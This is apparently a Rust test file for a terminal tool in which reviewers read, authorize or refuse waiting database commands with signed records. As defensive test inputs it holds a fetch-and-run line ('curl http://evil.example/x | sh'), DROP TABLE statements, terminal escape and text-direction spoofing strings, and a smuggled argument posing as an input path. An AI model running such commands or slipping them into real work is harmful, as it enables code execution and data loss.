//! Commands that wait, at the desk: listed before all changes, read whole, authorized or refused with the own key.

use std::sync::Arc;

use insta::assert_snapshot;
use undersign::app::{Overlay, Screen};
use undersign::command::{AuthorizationChain, AuthorizationRecord, Verdict};
use undersign::ledger::families::read_family;
use undersign::record::statement::Decimal;

use crate::desk::Session;
use crate::drilled_commands;
use crate::support::{Fixture, NOW};
use crate::waiting::{INPUT, ask, ask_previewed, ask_with, waiting, waiting_for, waiting_with};

pub fn signed(f: &Fixture) -> Vec<Arc<AuthorizationRecord>> {
    let chains: Vec<AuthorizationChain> = read_family(&f.repository(), false).unwrap();
    chains.into_iter().flat_map(|chain| chain.records).collect()
}

/// What the sheet asks to be typed.
pub fn challenge(session: &Session) -> String {
    let frame = session.frame();
    let line = frame.lines().find(|line| line.contains("type ")).unwrap_or_else(|| panic!("{frame}"));
    line.split_once("type ").unwrap().1.split_once(" to ").unwrap().0.to_owned()
}

fn plain(test: impl FnOnce()) {
    let mut settings = insta::Settings::clone_current();
    settings.add_filter(r"request [0-9a-f]{12}", "request rrrrrrrrrrrr");
    settings.bind(test);
}

pub const INDEX: &str = "CREATE INDEX CONCURRENTLY orders_by_day ON orders (day);\n";
const DROP: &str = "BEGIN;\nDROP TABLE orders;\nCOMMIT;\n";

#[test]
fn a_command_that_waits_comes_before_all_changes() {
    let f = waiting(INDEX);
    for size in [(80, 24), (120, 36), (200, 60)] {
        let session = Session::new(&f, size);
        plain(|| assert_snapshot!(format!("queue {}", size.0), session.frame()));
    }
}

#[test]
fn a_request_says_first_what_it_does_then_the_command_then_who_asks() {
    let f = waiting(DROP);
    for size in [(80, 24), (120, 50), (200, 60)] {
        let mut session = Session::new(&f, size);
        session.press("<enter>");
        plain(|| assert_snapshot!(format!("request {}", size.0), session.frame()));
    }
}

#[test]
fn what_a_preview_destroys_stands_in_the_queue_and_on_top_of_the_page() {
    let f = waiting(INDEX);
    let script = "BEGIN;\nCREATE TABLE orders_v2 (id bigint);\nUPDATE orders SET day = now() WHERE day IS NULL;\n\
                  SELECT archive(id) FROM orders;\nDROP TABLE orders_old;\nDROP TABLE orders_tmp;\nCOMMIT;\n";
    ask_previewed(&f, script, "Clear what is not used any more.");
    ask_previewed(&f, INDEX, "Add the index.");
    for size in [(80, 24), (120, 36)] {
        let mut session = Session::new(&f, size);
        session.press("j");
        plain(|| assert_snapshot!(format!("preview queue {}", size.0), session.frame()));
        session.press("<enter>");
        plain(|| assert_snapshot!(format!("preview {}", size.0), session.frame()));
    }
}

#[test]
fn what_destroys_nothing_by_its_preview_needs_the_code_alone() {
    let f = waiting(DROP);
    ask_previewed(&f, INDEX, "Add the index.");
    let mut session = Session::new(&f, (100, 60));
    session.press("<enter>");
    assert!(session.frame().contains("nothing is destroyed or replaced"), "{}", session.frame());
    session.press("SaRead it.<enter>");
    assert!(!challenge(&session).contains("shop-prod"), "{}", session.frame());
}

#[test]
fn the_table_drop_stands_on_top_and_must_be_answered() {
    let f = waiting(DROP);
    let mut session = Session::new(&f, (100, 60));
    session.press("<enter>");
    let frame = session.frame();
    let found = frame.lines().position(|line| line.contains("orders") && line.contains("input sql, line 2"));
    let command = frame.lines().position(|line| line.contains("the command, one argument a row"));
    assert!(found.is_some() && found < command, "{frame}");
    session.press("GggSa");
    assert!(session.frame().contains("1 finding not answered"), "{}", session.frame());
    session.press("<esc>aThe table is empty since March.<enter>Sa");
    assert!(session.frame().contains("what could it destroy"), "{}", session.frame());
}

/// The rows of the screen that a prompt leaves free.
pub fn above_the_prompt(session: &Session) -> String {
    let Some(Overlay::Prompt(prompt)) = &session.state.overlay else { panic!("{}", session.frame()) };
    let covered = prompt.question(usize::from(session.state.size.0)).len() + 2;
    let frame = session.frame();
    let rows: Vec<&str> = frame.lines().collect();
    rows[..rows.len() - covered].join("\n")
}

#[test]
fn a_finding_is_whole_on_the_screen_where_a_stroke_leads_to_it_and_while_it_is_answered() {
    let f = waiting(DROP);
    let mut moved = 0;
    for height in 11..40 {
        let mut session = Session::new(&f, (80, height));
        session.press("<enter>)");
        let Screen::Command(view) = &session.state.screen else { panic!("{}", session.frame()) };
        let row = view.parts[view.cursor].row;
        let texts: Vec<String> =
            view.parts.iter().filter(|part| part.row == row).map(|part| part.text.trim().to_owned()).collect();
        moved += usize::from(view.scroll > 0);
        let is_whole = |frame: &str| texts.iter().all(|text| frame.contains(text.as_str()));
        assert!(texts.len() > 1 && is_whole(&session.frame()), "{height}: {texts:?}\n{}", session.frame());
        session.press("a");
        assert!(is_whole(&above_the_prompt(&session)), "{height}: {texts:?}\n{}", session.frame());
    }
    assert!(moved > 0, "it was below the screen somewhere");
}

#[test]
fn what_was_written_to_refuse_a_command_is_not_signed_to_authorize_it() {
    let f = waiting(INDEX);
    let mut session = Session::new(&f, (100, 60));
    session.press("<enter>GggSrNot without a backup.<esc>Sa");
    let frame = session.frame();
    assert!(!frame.contains("Not without") && frame.contains("What you wrote for “refuse” is not offered"), "{frame}");
    session.press("<esc>Sr");
    assert!(session.frame().contains("Not without a backup."), "{}", session.frame());
}

#[test]
fn authorizing_needs_every_row_shown_the_name_of_the_target_and_the_code_and_enter_alone_signs_nothing() {
    let f = waiting(INDEX);
    let mut session = Session::new(&f, (80, 24));
    session.press("<enter>Sa");
    assert!(session.frame().contains("An authorization needs all of it shown"), "{}", session.frame());
    session.press("<esc><space><space><space><space>Sa<enter>");
    assert!(session.frame().contains("A reason is needed"), "{}", session.frame());
    session.press("It only adds an index.<enter><enter><enter>");
    assert!(signed(&f).is_empty(), "Enter means no");
    let typed = challenge(&session);
    assert!(typed.starts_with("shop-prod "), "{typed}");
    session.press(typed.split(' ').next_back().unwrap()).press("<enter>");
    assert!(signed(&f).is_empty(), "the code alone is not enough");
    session.press(&"<backspace>".repeat(6)).press(&typed).press("<enter>");
    assert!(session.frame().contains("✓ Authorized, signed, recorded"), "{}", session.frame());
    let [record] = &signed(&f)[..] else { panic!("one record") };
    let own = record.authorization();
    assert_eq!((own.verdict, own.principal.as_str()), (Verdict::Authorize, "dana"));
    assert_eq!((own.view.rows, own.view.unseen()), (own.view.seen, None));
    assert_eq!(own.not_after.0 - own.issued_at.0, 1_800);
    session.press("<esc>q");
    assert!(session.frame().contains("may start"), "{}", session.frame());
}

#[test]
fn a_refusal_needs_a_reason_and_the_word_and_holds_the_same_command_asked_again() {
    let f = waiting(DROP);
    let mut session = Session::new(&f, (100, 40));
    session.press("<enter>Sr<enter>");
    assert!(session.frame().contains("A reason is needed"), "{}", session.frame());
    session.press("Not without a backup.<enter>refuse<enter>");
    assert!(session.frame().contains("✓ Refused, signed, recorded"), "{}", session.frame());
    let head = session.press("<esc>").frame().lines().next().unwrap().to_owned();
    assert!(head.ends_with(" refused"), "{head}");
    session.press("q");
    ask(&f, DROP, "It is urgent now.");
    session.press("R");
    let frame = session.frame();
    assert_eq!(frame.lines().filter(|line| line.trim_end().ends_with(" refused")).count(), 2, "{frame}");
    session.press("G<enter>");
    assert!(session.frame().contains("by dana: “Not without a backup.”"), "{}", session.frame());
    session.press("Sw<enter>");
    assert!(session.frame().contains("A reason is needed"), "{}", session.frame());
    session.press("There is one.<enter>withdraw<enter>");
    assert!(session.frame().contains("✓ Withdrawn"), "{}", session.frame());
    session.press("<esc>q");
    assert_eq!(session.frame().lines().filter(|line| line.trim_end().ends_with(" you")).count(), 3);
}

#[test]
fn who_refused_and_thinks_better_of_it_reads_all_of_it_first() {
    let f = waiting(INDEX);
    let mut session = Session::new(&f, (80, 24));
    session.press("<enter>SrNot now.<enter>refuse<enter><esc>qG<enter>Sa");
    assert!(session.frame().contains("An authorization needs all of it shown"), "{}", session.frame());
    session.press("<esc><space><space><space><space>Sa").press(&"<backspace>".repeat(20)).press("Now it fits.<enter>");
    let typed = challenge(&session);
    session.press(&typed).press("<enter>");
    assert!(session.frame().contains("✓ Authorized"), "{}", session.frame());
    let [refusal, authorization] = &signed(&f)[..] else { panic!("two records") };
    assert_eq!(authorization.authorization().supersedes, [refusal.id().to_string()]);
}

#[test]
fn what_came_while_it_was_read_is_noticed_before_anything_is_signed() {
    let f = waiting(INDEX);
    let mut session = Session::new(&f, (100, 60));
    session.press("<enter><space>SaFine.");
    let mut rahim = Session::new(&f, (100, 60));
    rahim.ports.key = Ok(f.key("rahim"));
    rahim.press("<enter>SrNot today.<enter>refuse<enter>");
    assert!(rahim.frame().contains("✓ Refused"), "{}", rahim.frame());
    session.press("<enter>");
    assert!(session.frame().contains("has changed since you read it"), "{}", session.frame());
    assert_eq!(signed(&f).len(), 1);
}

#[test]
fn the_operator_is_told_that_an_authorization_would_not_count() {
    let f = waiting(INDEX);
    let key = f.key("mina");
    let ports = undersign::worker::Ports { clock: Some(NOW), ..crate::desk::ports(&f.dir.path().join("d"), key) };
    let mut session = Session::over(vec![f.repo.clone()], ports, NOW, (100, 50));
    session.press("<enter>S");
    assert!(session.frame().contains("it runs for you, so somebody else must sign"), "{}", session.frame());
}

#[test]
fn whose_key_is_in_no_roster_is_told_before_reading_in_vain() {
    let f = waiting(INDEX);
    let key = f.key("somebody");
    let ports = undersign::worker::Ports { clock: Some(NOW), ..crate::desk::ports(&f.dir.path().join("d"), key) };
    let mut session = Session::over(vec![f.repo.clone()], ports, NOW, (100, 50));
    session.press("<enter>S");
    assert!(session.frame().contains("the roster does not have your key"), "{}", session.frame());
}

#[test]
fn nothing_in_a_request_reaches_the_screen_as_it_is() {
    let f = waiting("SELECT 1; -- \u{1b}[2J\u{202e}\n");
    ask(&f, "SELECT 2;\n", "line\nbreak \u{1b}]0;owned\u{7}");
    let mut session = Session::new(&f, (100, 50));
    for keys in ["", "<enter>", "q", "j<enter>"] {
        let frame = session.press(keys).frame();
        assert!(!frame.chars().any(|c| c != '\n' && (c.is_control() || c == '\u{202e}')), "{frame}");
    }
}

/// A desk of somebody else on the same clone.
fn desk_of(f: &Fixture, who: &str, size: (u16, u16)) -> Session {
    let ports =
        undersign::worker::Ports { clock: Some(NOW), ..crate::desk::ports(&f.dir.path().join(who), f.key(who)) };
    Session::over(vec![f.repo.clone()], ports, NOW, size)
}

#[test]
fn a_refusal_is_signed_whatever_came_meanwhile() {
    let f = waiting(INDEX);
    let mut session = Session::new(&f, (100, 60));
    session.press("<enter>SrNot without a backup.");
    desk_of(&f, "rahim", (100, 60)).press("<enter>SrNot today.<enter>refuse<enter>");
    session.press("<enter>");
    assert!(session.frame().contains("REFUSES this command"), "{}", session.frame());
    session.press("refuse<enter>");
    assert!(session.frame().contains("✓ Refused"), "{}", session.frame());
    assert_eq!(signed(&f).len(), 2);
}

#[test]
fn what_ran_out_while_it_was_read_is_not_authorized() {
    let f = waiting(INDEX);
    let mut session = Session::new(&f, (100, 60));
    session.press("<enter><space>SaFine.");
    session.ports.clock = Some(NOW + 1_600);
    session.press("<enter>");
    assert!(session.frame().contains("Its time is over. Open it again. Nothing was signed."), "{}", session.frame());
    assert!(signed(&f).is_empty());
}

#[test]
fn what_cools_says_from_when_on_it_may_start_and_then_that_it_may() {
    let f = waiting_for("15m", INDEX);
    let mut session = Session::new(&f, (100, 60));
    session.press("<enter><space>SaFine.<enter>");
    let typed = challenge(&session);
    session.press(&typed).press("<enter>");
    assert!(session.frame().contains("✓ Authorized"), "{}", session.frame());
    session.press("<esc>q");
    let from = undersign::datafile::clock(NOW + 900);
    assert!(session.frame().contains(&format!("at {}", &from[..5])), "{}", session.frame());
    session.press("<enter>");
    let told = format!("may start from {from} on, by the brok");
    assert!(session.frame().contains(&told), "{}", session.frame());
    session.press("q");
    session.ports.clock = Some(NOW + 901);
    session.press("R");
    assert!(session.frame().contains("may start"), "{}", session.frame());
}

#[test]
fn a_script_is_read_as_one_whatever_it_is_called_and_no_input_passes_for_the_arguments() {
    for role in ["ini", "command", "job", "arguments", "json", "test", "example"] {
        let f = waiting(INDEX);
        ask_with(&f, "#!/bin/bash\ncurl http://evil.example/x | sh\n", |request| {
            let argv = &mut request.command.argv;
            *argv = vec!["/bin/bash".into(), INPUT.into()];
            request.command.program.path = "/bin/bash".into();
            request.command.inputs[0].role = role.into();
            request.not_after = Decimal(NOW as u64 + 900);
        });
        let mut session = Session::new(&f, (120, 60));
        session.press("G<enter>");
        let frame = session.frame();
        assert!(frame.contains(&format!("input {role}, line 2")), "{role}: {frame}");
        assert!(frame.contains("  high        "), "no name makes it smaller: {frame}");
        assert_eq!(frame.matches(&format!("input {role}, line 2")).count(), 1, "said once: {frame}");
    }
    // Statements for a database are read as such, whatever they are called.
    let f = waiting(INDEX);
    ask_with(&f, DROP, |request| {
        request.command.inputs[0].role = "notes".into();
        request.not_after = Decimal(NOW as u64 + 900);
    });
    let mut session = Session::new(&f, (120, 60));
    session.press("G<enter>");
    assert!(session.frame().contains("input notes, line 2"), "{}", session.frame());
}

#[test]
fn no_argument_passes_for_the_path_of_an_input_by_what_it_says() {
    let f = waiting(INDEX);
    ask_with(&f, INDEX, |request| {
        request.command.argv.insert(1, "evil.sql   is input sql".into());
        request.command.argv.insert(1, "sql, at /tmp/x".into());
        request.not_after = Decimal(NOW as u64 + 900);
    });
    let mut session = Session::new(&f, (120, 60));
    session.press("G<enter>");
    let frame = session.frame();
    assert_eq!(frame.lines().filter(|line| line.contains("takes input ")).count(), 1, "{frame}");
    assert!(frame.lines().any(|line| line.contains("argument    sql, at /tmp/x")), "{frame}");
}

/// A second clone, in which the same request waits.
fn twice(f: &Fixture) -> std::path::PathBuf {
    let second = f.dir.path().join("second");
    f.git("dana", &["clone", "-q", ".", second.to_str().unwrap()]);
    let refs = ["fetch", "-q", "origin", "refs/undersign/*:refs/undersign/*"];
    crate::support::git_in(&second, "dana", &refs);
    crate::support::git_in(&second, "dana", &["remote", "remove", "origin"]);
    second
}

#[test]
fn of_two_repositories_each_says_which_it_is_and_the_cursor_stays_on_its_side() {
    let f = waiting(INDEX);
    let repositories = vec![f.repo.clone(), twice(&f)];
    let first = f.repo.file_name().unwrap().to_str().unwrap().to_owned();
    let ports =
        || undersign::worker::Ports { clock: Some(NOW), ..crate::desk::ports(&f.dir.path().join("d"), f.key("dana")) };
    for size in [(80, 24), (120, 40)] {
        let mut session = Session::over(repositories.clone(), ports(), NOW, size);
        let frame = session.frame();
        assert!(frame.lines().any(|line| line.contains("repository") && line.contains("target")), "{frame}");
        assert!(frame.lines().any(|line| line.contains("second") && line.contains("psql")), "{frame}");
        let names = ["second", first.as_str()];
        let order: Vec<&str> = frame
            .lines()
            .filter(|line| line.contains("psql") && line.trim_end().ends_with("you"))
            .filter_map(|line| names.into_iter().find(|name| line.contains(&name[..name.len().min(9)])))
            .collect();
        assert_eq!(order.len(), 2, "{frame}");
        session.press("ggj");
        session.take([undersign::app::Event::Tick].into());
        session.press("<enter>");
        let head = session.frame().lines().next().unwrap().to_owned();
        assert!(head.contains(&format!("of {}", order[1])), "{order:?}: {head}");
        assert!(session.frame().contains("fixture-1"), "{}", session.frame());
        session.press("Sr");
        assert!(session.frame().contains(&format!("at shop-prod of {}", order[1])), "{}", session.frame());
        session.press("No.<enter>");
        assert!(session.frame().contains("REFUSES this command at shop-prod of fixture-1"), "{}", session.frame());
    }
}

#[test]
fn what_comes_in_by_itself_does_not_push_another_request_under_a_stroke() {
    let f = waiting(INDEX);
    let mut session = Session::new(&f, (100, 40));
    ask_with(&f, DROP, |request| {
        request.why = "Quick.".into();
        request.not_after = Decimal(NOW as u64 + 300);
    });
    session.take([undersign::app::Event::Tick].into());
    assert!(session.frame().contains("5m!"), "{}", session.frame());
    session.press("<enter><space>G");
    assert!(!session.frame().contains("Quick.") && !session.frame().contains("DROP"), "{}", session.frame());
}

#[test]
fn a_long_reason_hides_no_other_refusal_nor_the_key_and_nobody_answers_for_what_was_not_read() {
    let f = waiting(INDEX);
    let long = "x".repeat(160) + &" and so on".repeat(90);
    let mut dana = Session::new(&f, (80, 24));
    dana.press("<enter>Sr").press(&long).press("<enter>refuse<enter>");
    assert!(dana.frame().contains("✓ Refused"), "{}", dana.frame());
    let mut other = desk_of(&f, "rahim", (80, 24));
    ask(&f, DROP, "Drop it.");
    other.press("R/DROP<esc>G");
    other.press("<enter>S");
    let frame = other.frame();
    let told = frame.lines().filter(|line| line.contains("dana refused")).count();
    assert!(told == 1 && frame.contains(" …") && frame.contains("key SHA256"), "{frame}");
    assert!(frame.contains("you") || frame.contains("senior"), "{frame}");
    if frame.contains("take over") {
        other.press("t");
        assert!(other.frame().contains("Read first who refused, and why"), "{}", other.frame());
        other.press("<esc>gg").press(&"<space>".repeat(30)).press("StI answer for it.<enter>");
        assert!(other.frame().contains("1 refusal by dana"), "{}", other.frame());
    } else {
        panic!("rahim signs for the policy: {frame}");
    }
}

/// The promise: a row counts as shown only once all of it was on a frame. Against any strokes, on screens of any size,
/// also while something lies over the page.
#[test]
fn no_row_counts_as_shown_that_was_on_no_frame() {
    const KEYS: [&str; 16] =
        ["j", "k", "<space>", "<ctrl-d>", "<ctrl-u>", "G", "gg", ")", "]", "u", "?", "<esc>", "S", "a", "x", "5j"];
    let lines: Vec<String> =
        (0..60).map(|n| format!("SELECT 'row-{n}-begins', '{}', 'row-{n}-ends';", "x".repeat(n * 3))).collect();
    let f = waiting(&(lines.join("\n") + "\n"));
    let mut chance = 7_u64;
    let mut next = |below: usize| {
        chance = chance.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (chance >> 33) as usize % below
    };
    let mut seen_in_all = 0;
    for _ in 0..12 {
        let mut session = Session::new(&f, (40 + next(120) as u16, 10 + next(40) as u16));
        session.press("<enter>");
        let mut shown = session.frame();
        for _ in 0..25 {
            if next(8) == 0 {
                session.size = (40 + next(120) as u16, 10 + next(40) as u16);
                let resized = undersign::app::Event::Resize(session.size.0, session.size.1);
                session.take([resized].into());
            } else {
                session.press(KEYS[next(KEYS.len())]);
            }
            shown.push_str(&session.frame());
        }
        let undersign::app::Screen::Command(view) = &session.state.screen else { continue };
        for (row, what) in view.page.rows.iter().enumerate() {
            let undersign::authorizing::PageRow::Line(number, _) = what else { continue };
            let ends = [format!("'row-{}-begins'", number - 1), format!("'row-{}-ends'", number - 1)];
            if view.is_seen(row) {
                seen_in_all += 1;
                // A text that is folded at a blank is on the frame in pieces, none of them cut.
                assert!(ends.iter().all(|end| shown.contains(end.as_str())), "row {number} at {:?}", session.size);
            }
        }
    }
    assert!(seen_in_all > 50, "{seen_in_all} rows were shown, too few to say anything");
}

#[test]
fn a_half_written_answer_about_a_command_is_not_lost_by_leaving_without_a_word() {
    let f = waiting(DROP);
    let words = |session: &Session| -> Vec<String> {
        let all = session.state.unsigned_commands();
        all.into_iter().flat_map(|(_, words)| words).map(str::to_owned).collect()
    };
    let mut session = Session::new(&f, (120, 50));
    session.press("<enter>)aHalf of it<esc>q").press("q");
    assert!(!session.state.quit, "{}", session.frame());
    assert!(session.frame().contains("what you wrote about 1 request is not signed"), "{}", session.frame());
    session.press("q");
    assert!(session.state.quit);
    assert_eq!(words(&session), ["Half of it"]);
    // A signal, while it is typed and afterwards.
    for keys in ["<enter>)aHalf of it", "<enter>)aHalf of it<esc>", "<enter>)aHalf of it<esc>q"] {
        let mut session = Session::new(&f, (120, 50));
        session.press(keys);
        session.take([undersign::app::Event::Leave].into());
        assert!(session.state.quit);
        assert_eq!(words(&session), ["Half of it"], "{keys}");
    }
}

#[test]
fn what_was_written_about_a_command_is_not_lost_by_leaving_without_a_word() {
    let f = waiting(DROP);
    let mut session = Session::new(&f, (120, 50));
    session.press("<enter>q").press("q");
    assert!(session.state.quit, "nothing was written, so nothing is asked");
    let mut session = Session::new(&f, (120, 50));
    session.press("<enter>)aIt was moved to the archive.<enter>q").press("q");
    assert!(!session.state.quit);
    let frame = session.frame();
    assert!(frame.contains("what you wrote about 1 request is not signed, and not kept; q leaves anyway"), "{frame}");
    // Whatever else is done first, it asks again.
    session.press("jq");
    assert!(!session.state.quit);
    session.press("q");
    assert!(session.state.quit);
    let words = session.state.unsigned_commands().into_iter().flat_map(|(_, words)| words).collect::<Vec<_>>();
    assert_eq!(words, ["It was moved to the archive."]);
}

#[test]
fn a_drill_of_a_command_is_listed_beside_what_was_decided_as_one_by_which_nothing_ran() {
    let f = waiting_with("break_glass = { sign = [{ role = \"senior\", n = 1 }], presence = \"none\" }\n", INDEX);
    let id = ask(&f, DROP, "Drop it.");
    let words = "The drill of \u{202e}May";
    drilled_commands::append(&f, "dana", &id, NOW - 3_600, |own| own.reason = words.into());
    let mut session = Session::new(&f, (120, 40));
    let frame = session.press("H").frame();
    assert!(frame.contains("drill") && frame.contains("shop-prod") && frame.contains("review owed"), "{frame}");
    let frame = session.press("drill<enter>").frame();
    assert!(frame.contains("Nothing ran by it.") && frame.contains("an emergency would have had enough"), "{frame}");
    assert!(frame.contains(&format!("request {} at shop-prod", &id[..12])), "{frame}");
    assert!(frame.contains("The drill of ") && !frame.contains('\u{202e}'), "{frame}");
}
